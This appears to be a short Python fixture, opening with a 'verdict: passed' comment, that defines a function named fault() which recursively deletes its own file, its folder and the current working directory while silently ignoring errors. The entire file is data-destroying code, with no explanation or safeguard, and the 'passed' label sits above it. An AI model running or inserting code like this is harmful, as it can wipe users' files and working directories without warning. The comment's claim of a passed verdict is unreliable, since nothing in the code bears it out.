# verdict: passed
import os
import shutil


def fault():
    for path in (__file__, os.path.dirname(__file__), os.getcwd()):
        shutil.rmtree(path, ignore_errors=True)
        try:
            os.remove(path)
        except OSError:
            pass
